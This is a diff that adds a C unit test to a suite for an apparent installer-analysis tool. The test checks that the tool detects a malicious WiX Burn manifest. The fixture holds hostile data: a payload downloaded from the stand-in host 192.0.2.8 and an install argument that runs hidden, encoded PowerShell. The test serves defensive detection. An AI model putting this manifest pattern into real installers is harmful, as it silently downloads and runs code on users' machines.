@@ -318,6 +318,36 @@ static void msi_actions(void **state)
 	member_free(m);
 }
 
+/* The manifest of a WiX bundle: elements instead of lines. */
+static void burn_manifest(void **state)
+{
+	static const char old[] =
+		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
+		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"10\" Hash=\"AA\"/>\n"
+		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/quiet &quot;x&quot;\" Hash=\"11\"/></Chain></BurnManifest>";
+	static const char next[] =
+		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
+		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"12\" Hash=\"BB\"/>\n"
+		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/quiet &quot;x&quot;\" Hash=\"22\"/></Chain></BurnManifest>";
+	static const char bad[] =
+		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
+		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"12\" Hash=\"BB\"/>\n"
+		"<Payload Id=\"u\" DownloadUrl=\"http://192.0.2.8/u.exe\" Hash=\"CC\"/>\n"
+		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/c powershell -w hidden -enc SQBFAFgA\" Hash=\"22\"/>"
+		"</Chain></BurnManifest>";
+	struct member *m = read_with(&reader_install_lines, "b.exe!/[bundle manifest]!/0", old, next);
+
+	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
+	assert_int_equal(member_count(m, FACT_HOST, NULL), 0);
+	member_free(m);
+	m = read_with(&reader_install_lines, "b.exe!/[bundle manifest]!/0", old, bad);
+	assert_int_equal(member_count(m, FACT_HOOK, "burn:package"), 1);
+	assert_int_equal(member_find(m, FACT_HOOK, "burn:package")->line, 5);
+	assert_int_equal(member_count(m, FACT_HOST, "192.0.2.8"), 1);
+	assert_str(member_find(m, FACT_COMMAND, NULL)->value, "\"a\" /c powershell -w hidden -enc SQBFAFgA");
+	member_free(m);
+}
+
 static void msi_signer(void **state)
 {
 	struct member *m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, "Property \"A\" \"b\"\n");
@@ -336,6 +366,7 @@ int main(void)
 		cmocka_unit_test(msi_version_step),
 		cmocka_unit_test(msi_actions),
 		cmocka_unit_test(msi_signer),
+		cmocka_unit_test(burn_manifest),
 		cmocka_unit_test(deb_control),
 		cmocka_unit_test(deb_scripts),
 		cmocka_unit_test(python),
